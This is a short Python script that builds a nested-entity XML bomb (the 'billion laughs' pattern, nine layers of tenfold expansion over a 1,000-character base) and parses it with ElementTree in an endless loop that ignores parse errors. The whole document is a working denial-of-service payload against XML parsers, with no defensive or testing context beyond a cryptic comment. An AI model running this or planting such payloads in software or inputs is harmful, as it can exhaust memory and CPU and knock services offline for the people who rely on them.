# Entities within entities, again and again: each document ends by its own limit.
import xml.etree.ElementTree as ET

names = ''.join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10))
bomb = f'<!DOCTYPE l [<!ENTITY a0 "{"x" * 1000}">{names}]><l>&a9;</l>'
while True:
    try:
        ET.fromstring(bomb)
    except ET.ParseError:
        pass
